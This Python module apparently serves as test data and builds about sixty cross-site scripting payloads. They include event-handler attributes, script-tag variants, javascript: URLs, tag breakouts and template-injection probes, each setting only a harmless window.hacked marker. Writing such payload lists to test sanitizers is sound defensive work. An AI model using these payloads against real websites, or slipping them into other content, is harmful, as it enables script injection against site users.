"""Sixty ways to smuggle a script into a text; every one sets window.hacked when it runs."""

from __future__ import annotations

_RUN = "window.hacked=1"
_TAGS = ("img", "video", "audio", "input", "body", "svg", "details", "iframe", "object", "embed")
_EVENTS = ("onerror", "onload", "onfocus autofocus", "ontoggle open", "onpointerenter")

PAYLOADS = (
    *(f"<{tag} src=x {event}={_RUN}>" for tag in _TAGS for event in _EVENTS[:4]),
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x></svg>",
    f"<math><mi xlink:href='javascript:{_RUN}'>点</mi></math>",
    f"<a href='javascript:{_RUN}'>点</a>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'" autofocus onfocus={_RUN} x="',
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "${window.hacked=1}",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href='javascript:{_RUN}//'>",
)
